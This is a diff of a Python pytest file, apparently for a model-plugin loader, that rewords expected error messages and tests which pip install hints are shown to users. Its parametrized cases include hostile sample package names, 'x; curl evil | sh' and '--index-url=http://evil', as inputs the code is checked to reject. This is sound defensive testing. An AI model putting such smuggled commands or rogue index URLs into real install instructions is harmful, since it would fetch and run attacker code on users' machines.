@@ -76,7 +76,7 @@ def test_a_distributions_decoder(monkeypatch: pytest.MonkeyPatch) -> None:
     ("points", "name", "says"),
     [
         ([], "yollo", ["'yollo'", "Did you mean 'yolo'?"]),
-        ([], "nothing_like_it", ["There are boxes, classify"]),
+        ([], "nothing_like_it", ["Available: boxes, classify"]),
         ([], "dense", ["pip install --no-deps adaptrt-mmdet"]),
         ([("mine", "a", "external"), ("mine", "b", "external")], "mine", ["a and by b"]),
         ([("yolo", "shadow", "external")], "yolo", ["adaptrt and by shadow", "pip uninstall shadow"]),
@@ -98,7 +98,7 @@ def test_what_goes_wrong_is_named(
 @pytest.mark.parametrize(
     ("distribution", "said"),
     [
-        ("acme-heat", "acme-heat brings it; for predicting, pip install --no-deps acme-heat is enough."),
+        ("acme-heat", "acme-heat provides it; for prediction, pip install --no-deps acme-heat is enough."),
         ("x; curl evil | sh", None),  # a file says this name: nobody is told to paste it
         ("--index-url=http://evil", None),
         ("a\nb", None),
